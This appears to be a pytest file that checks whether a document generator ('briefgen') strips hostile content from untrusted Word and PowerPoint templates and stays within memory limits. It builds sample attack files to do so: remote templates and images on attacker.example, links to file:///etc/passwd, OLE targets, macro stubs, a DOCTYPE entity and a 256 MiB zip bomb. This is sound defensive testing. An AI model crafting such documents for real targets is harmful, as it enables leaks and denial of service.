"""Reference templates are untrusted: hostile parts never reach a product, and nothing hangs or blows up.

Every hostile file is made here, small: the zip bomb is a stream of zeros deflated once per session.
Each case runs the real command line under a wrapper that reports the child's peak memory.
"""

from __future__ import annotations

import hashlib
import io
import os
import re
import shutil
import struct
import subprocess
import sys
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

import pytest

from .conftest import NRF, ROOT

# Each test runs briefgen in processes of its own.
pytestmark = pytest.mark.slow

BOMB_BYTES = 256 * 1024 * 1024
MAX_PEAK_MB = 300
EVIL = ("http://attacker.example", "file:///")
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL = "http://schemas.openxmlformats.org/package/2006/relationships"
# Parts a product made with a user's template may have that the built-in one lacks: kept on purpose
# (README, "Templates are untrusted input").
KEPT_ON_PURPOSE = re.compile(r"word/(header|footer|footnotes|endnotes)N?\.xml|ppt/(media/.*|slideMasters/.*|slideLayouts/.*"
                             r"|theme/.*|notesMasters/.*)")

_MEASURED = ("import resource, subprocess, sys\n"
             "r = subprocess.run(sys.argv[1:])\n"
             "print('peak-kb', resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, file=sys.stderr)\n"
             "sys.exit(r.returncode)\n")


def briefgen_measured(*args, cwd: Path | None = None) -> tuple[subprocess.CompletedProcess[str], float]:
    """Run briefgen in its own process; return the result (wrapper line removed) and its peak RSS in MB."""
    result = subprocess.run([sys.executable, "-c", _MEASURED, sys.executable, "-m", "briefgen", *map(str, args)],
                            capture_output=True, text=True, timeout=120, cwd=cwd)
    found = re.search(r"^peak-kb (\d+)$", result.stderr, re.M)
    assert found, result.stderr
    result.stderr = result.stderr[:found.start()]
    return result, int(found.group(1)) / 1024


def fingerprints(folder: Path) -> dict[str, str]:
    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.rglob("*")) if p.is_file()}


@dataclass(frozen=True)
class Deflated:
    """An entry already compressed (raw deflate), copied into a zip as it is: the bomb is never inflated here."""

    data: bytes
    crc: int
    size: int


def write_zip(entries: dict[str, bytes | Deflated]) -> bytes:
    """A plain zip (no zip64, no extras) of ``entries``, written by hand so a Deflated entry is copied raw."""
    out, central = io.BytesIO(), io.BytesIO()
    for name, entry in entries.items():
        if not isinstance(entry, Deflated):
            packer = zlib.compressobj(6, zlib.DEFLATED, -15)
            entry = Deflated(packer.compress(entry) + packer.flush(), zlib.crc32(entry), len(entry))
        encoded, offset = name.encode(), out.tell()
        fields = struct.pack("<HHHHHIIIH", 20, 0, 8, 0, 0x21, entry.crc, len(entry.data), entry.size, len(encoded))
        out.write(b"PK\x03\x04" + fields + b"\x00\x00" + encoded + entry.data)
        central.write(b"PK\x01\x02" + struct.pack("<H", 20) + fields + struct.pack("<HHHHII", 0, 0, 0, 0, 0, offset)
                      + encoded)
    start, directory = out.tell(), central.getvalue()
    out.write(directory + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, len(entries), len(entries),
                                                        len(directory), start, 0))
    return out.getvalue()


def entries(data: bytes) -> dict[str, bytes | Deflated]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return {name: z.read(name) for name in z.namelist()}


def add_rels(xml: bytes, *rels: tuple[str, str, str, bool]) -> bytes:
    """``rels`` as (id, type name, target, external) appended to a .rels part."""
    text = xml.decode()
    for r_id, kind, target, external in rels:
        mode = ' TargetMode="External"' if external else ""
        text = text.replace("</Relationships>", f'<Relationship Id="{r_id}" Type="{R}/{kind}" Target="{target}"'
                                                f"{mode}/></Relationships>")
    return text.encode()


def add_types(xml: bytes, *overrides: tuple[str, str]) -> bytes:
    text = xml.decode()
    for name, ct in overrides:
        text = text.replace("</Types>", f'<Override PartName="{name}" ContentType="{ct}"/></Types>')
    return text.encode()


@pytest.fixture(scope="session")
def bomb() -> Deflated:
    """256 MiB of zeros deflated as a stream (about 1 MB): a part that would fill memory if inflated."""
    packer, chunk, crc, parts = zlib.compressobj(1, zlib.DEFLATED, -15), bytes(1024 * 1024), 0, []
    for _ in range(BOMB_BYTES // len(chunk)):
        parts.append(packer.compress(chunk))
        crc = zlib.crc32(chunk, crc)
    parts.append(packer.flush())
    return Deflated(b"".join(parts), crc, BOMB_BYTES)


def plain_docx() -> bytes:
    import docx
    out = io.BytesIO()
    docx.Document().save(out)
    return out.getvalue()


def plain_pptx() -> bytes:
    return (ROOT / "templates" / "default" / "deck.pptx").read_bytes()


def hostile_docx(bomb: Deflated) -> bytes:
    """A Word template with an attached template on the web, links to local files, an OLE object, macros and a
    printer-settings part that inflates to 256 MiB."""
    parts = entries(plain_docx())
    body = (f'<w:p><w:hyperlink r:id="rIdEvilLink"><w:r><w:t>passwd</w:t></w:r></w:hyperlink></w:p>'
            f'<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
            f'r:id="rIdEvilOle" ProgID="Package"/></w:object></w:r></w:p>')
    parts["word/document.xml"] = parts["word/document.xml"].replace(b"<w:body>", f"<w:body>{body}".encode())
    parts["word/settings.xml"] = re.sub(rb"(<w:settings[^>]*>)", rb'\1<w:attachedTemplate r:id="rIdEvilDot"/>',
                                        parts["word/settings.xml"])
    parts["word/_rels/settings.xml.rels"] = add_rels(
        f'<Relationships xmlns="{REL}"></Relationships>'.encode(),
        ("rIdEvilDot", "attachedTemplate", "http://attacker.example/normal.dotm", True))
    parts["word/_rels/document.xml.rels"] = add_rels(
        parts["word/_rels/document.xml.rels"], ("rIdEvilLink", "hyperlink", "file:///etc/passwd", True),
        ("rIdEvilImg", "image", "http://attacker.example/pixel.png", True),
        ("rIdEvilOle", "oleObject", "file:///C:/Windows/evil.exe", True))
    return write_zip(with_macros_and_bomb(parts, "word/document.xml", "wordprocessingml", bomb))


def with_macros_and_bomb(parts: dict[str, bytes | Deflated], main: str, language: str,
                         bomb: Deflated) -> dict[str, bytes | Deflated]:
    """``parts`` with a macro project and a printer-settings part (the bomb) related from the ``main`` part."""
    folder, base = main.rsplit("/", 1)
    rels = f"{folder}/_rels/{base}.rels"
    parts[rels] = add_rels(parts[rels], ("rIdVba", "vbaProject", "vbaProject.bin", False),
                           ("rIdPrinter", "printerSettings", "printerSettings/printerSettings1.bin", False))
    parts[f"{folder}/vbaProject.bin"] = b'Attribute VB_Name = "Module1"'
    parts[f"{folder}/printerSettings/printerSettings1.bin"] = bomb
    parts["[Content_Types].xml"] = add_types(
        parts["[Content_Types].xml"], (f"/{folder}/vbaProject.bin", "application/vnd.ms-office.vbaProject"),
        (f"/{folder}/printerSettings/printerSettings1.bin",
         f"application/vnd.openxmlformats-officedocument.{language}.printerSettings"))
    return parts


def hostile_pptx(bomb: Deflated) -> bytes:
    """A deck template whose master links to a local file, an image on the web and an OLE object, with macros
    and a printer-settings part that inflates to 256 MiB."""
    parts = entries(plain_pptx())
    a = "http://schemas.openxmlformats.org/drawingml/2006/main"
    master = "ppt/slideMasters/slideMaster1.xml"
    parts[master] = re.sub(rb'(<p:cNvPr id="\d+" name="[^"]*")/>',
                           f'\\1><a:hlinkClick xmlns:a="{a}" r:id="rIdEvilLink"/></p:cNvPr>'.encode(),
                           parts[master], count=1)
    assert b"rIdEvilLink" in parts[master]
    parts["ppt/slideMasters/_rels/slideMaster1.xml.rels"] = add_rels(
        parts["ppt/slideMasters/_rels/slideMaster1.xml.rels"], ("rIdEvilLink", "hyperlink", "file:///etc/passwd", True),
        ("rIdEvilImg", "image", "http://attacker.example/logo.png", True),
        ("rIdEvilOle", "oleObject", "file:///C:/Windows/evil.exe", True))
    parts["ppt/slideLayouts/_rels/slideLayout1.xml.rels"] = add_rels(
        parts["ppt/slideLayouts/_rels/slideLayout1.xml.rels"],
        ("rIdEvilImg", "image", "http://attacker.example/layout.png", True))
    return write_zip(with_macros_and_bomb(parts, "ppt/presentation.xml", "presentationml", bomb))


def package_facts(path: Path) -> tuple[set[str], list[str]]:
    """A product's part names with numbers folded (slide12.xml → slideN.xml), and every relationship target."""
    with zipfile.ZipFile(path) as z:
        names = {re.sub(r"\d+(?=\.\w+$)", "N", n) for n in z.namelist()}
        targets = [t for n in z.namelist() if n.endswith(".rels")
                   for t in re.findall(r'Target="([^"]*)"', z.read(n).decode())]
    return names, targets


@pytest.fixture(scope="session")
def builtin_products(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("builtin")
    made = {}
    for fmt in ("docx", "pptx"):
        made[fmt] = folder / f"nrf.{fmt}"
        result, _ = briefgen_measured(fmt, NRF, "-o", made[fmt])
        assert result.returncode == 0, result.stderr
    return made


class DescribeAHostileTemplate:
    @pytest.mark.parametrize("fmt, via", [("docx", "reference"), ("pptx", "reference"), ("pptx", "theme folder")])
    def it_makes_a_clean_product_and_says_once_what_it_left_out(self, fmt, via, bomb, builtin_products, tmp_path):
        if via == "theme folder":  # a theme's own deck.pptx is a template too
            shutil.copytree(ROOT / "templates" / "default", tmp_path / "theme",
                            ignore=shutil.ignore_patterns("*.py", "example.yaml"))
            template, option = tmp_path / "theme" / "deck.pptx", tmp_path / "theme"
        else:
            template = option = tmp_path / f"corporate.{fmt}"
        template.write_bytes(hostile_docx(bomb) if fmt == "docx" else hostile_pptx(bomb))
        content = tmp_path / "brief.yaml"
        content.write_bytes(NRF.read_bytes())
        before = fingerprints(tmp_path)
        out = tmp_path / f"out.{fmt}"
        result, peak = briefgen_measured(fmt, content, "-o", out, "--template", option)
        assert result.returncode == 0, result.stderr
        assert peak < MAX_PEAK_MB
        warnings = [line for line in result.stderr.splitlines() if "left out of the template" in line]
        assert len(warnings) == 1, result.stderr
        for said in ("external links", "printer settings", "macros"):
            assert said in warnings[0]
        names, targets = package_facts(out)
        assert not [t for t in targets if t.startswith(EVIL)]
        builtin_names, builtin_targets = package_facts(builtin_products[fmt])
        assert sorted(t for t in targets if "://" in t) == sorted(t for t in builtin_targets if "://" in t)
        assert not [n for n in names - builtin_names if not KEPT_ON_PURPOSE.fullmatch(n)]
        assert {k: v for k, v in fingerprints(tmp_path).items() if k != str(out)} == before

    def it_keeps_the_look_of_a_plain_template(self, tmp_path):
        template = tmp_path / "plain.docx"
        template.write_bytes(plain_docx())
        out = tmp_path / "out.docx"
        result, _ = briefgen_measured("docx", NRF, "-o", out, "--template", template)
        assert result.returncode == 0, result.stderr
        import docx
        theirs, ours = docx.Document(str(template)), docx.Document(str(out))
        for attribute in ("page_width", "page_height", "left_margin", "right_margin", "top_margin", "bottom_margin"):
            assert getattr(ours.sections[0], attribute) == getattr(theirs.sections[0], attribute), attribute
        for name in ("Normal", "Heading 1", "Heading 2", "Title"):  # the template's own styles win over ours
            assert ours.styles[name].font.color.rgb == theirs.styles[name].font.color.rgb, name
            assert ours.styles[name].font.size == theirs.styles[name].font.size, name
            assert ours.styles[name].font.bold == theirs.styles[name].font.bold, name
        # What it lacks, briefgen supplies and says so; what it left out of the template is said too.
        assert "lacks" in result.stderr and "'Key Judgment'" in result.stderr
        assert "Key Judgment" in [s.name for s in ours.styles]


def doctype_docx() -> bytes:
    """A Word template whose styles declare an entity and use it in an attribute."""
    parts = entries(plain_docx())
    styles = parts["word/styles.xml"].replace(b"?>", b'?><!DOCTYPE w:styles [<!ENTITY boom "boom">]>', 1)
    parts["word/styles.xml"] = re.sub(rb'(<w:name w:val=")Normal(")', rb"\1&boom;\2", styles, count=1)
    return write_zip(parts)


def bomb_in(data: bytes, name: str, bomb: Deflated) -> bytes:
    """``data`` with the part ``name``, one briefgen needs, replaced by the bomb."""
    return write_zip({**entries(data), name: bomb})


class DescribeAnUnusableTemplate:
    @pytest.mark.parametrize("case", ["doctype", "styles-bomb", "master-bomb", "not-a-zip", "truncated", "fifo",
                                      "dev-zero", "empty", "wrong-root", "no-body", "page-width"])
    def it_ends_in_a_clear_error_naming_the_template(self, case, bomb, tmp_path):
        fmt = "pptx" if case == "master-bomb" else "docx"
        template = tmp_path / f"t.{fmt}"
        if case == "doctype":
            template.write_bytes(doctype_docx())
        elif case == "styles-bomb":
            template.write_bytes(bomb_in(plain_docx(), "word/styles.xml", bomb))
        elif case == "master-bomb":
            template.write_bytes(bomb_in(plain_pptx(), "ppt/slideMasters/slideMaster1.xml", bomb))
        elif case == "not-a-zip":
            template.write_bytes(b"<html>not a document</html>")
        elif case == "truncated":
            template.write_bytes(plain_docx()[:5000])
        elif case == "fifo":
            os.mkfifo(template)
        elif case == "dev-zero":
            template.symlink_to("/dev/zero")
        elif case == "empty":
            template.write_bytes(b"")
        else:  # well-formed XML that python-docx cannot use
            parts = entries(plain_docx())
            parts["word/styles.xml" if case == "wrong-root" else "word/document.xml"] = {
                "wrong-root": b'<?xml version="1.0"?><styles/>',
                "no-body": re.sub(rb"<w:body>.*</w:body>", b"", parts["word/document.xml"], flags=re.S),
                "page-width": re.sub(rb'<w:pgSz w:w="\d+"', b'<w:pgSz w:w="wide"', parts["word/document.xml"]),
            }[case]
            template.write_bytes(write_zip(parts))
        before = {p: p.stat().st_mtime_ns for p in tmp_path.iterdir()}
        result, peak = briefgen_measured(fmt, NRF, "-o", tmp_path / f"out.{fmt}", "--template", template)
        assert result.returncode == 1, result.stderr
        assert re.search(rf"^(error: )?{re.escape(str(template))}: ", result.stderr, re.M), result.stderr
        assert "internal error" not in result.stderr and "Traceback" not in result.stderr
        assert peak < MAX_PEAK_MB
        assert not (tmp_path / f"out.{fmt}").exists()
        assert {p: p.stat().st_mtime_ns for p in tmp_path.iterdir()} == before
